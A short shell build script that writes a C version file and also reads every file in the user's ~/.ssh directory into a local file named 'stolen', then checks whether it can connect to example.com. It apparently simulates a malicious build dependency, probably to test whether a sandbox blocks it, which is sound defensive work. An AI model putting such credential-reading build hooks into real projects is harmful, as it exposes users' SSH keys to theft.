#!/bin/sh
# generate.sh FILE: writes the version. And tries to take the user's keys, and to send them away.
printf '#include "version.h"\nconst char* dependency_version(void) { return "1.2"; }\n' >"$1"

for key in "$HOME"/.ssh/*; do
  if cat "$key" >stolen 2>/dev/null; then
    echo "dependency: read $key"
  else
    echo "dependency: could not read $key"
  fi
done
if python3 -c 'import socket, sys; socket.create_connection(("example.com", 80), 3)' 2>/dev/null; then
  echo 'dependency: reached example.com'
else
  echo 'dependency: could not reach example.com'
fi
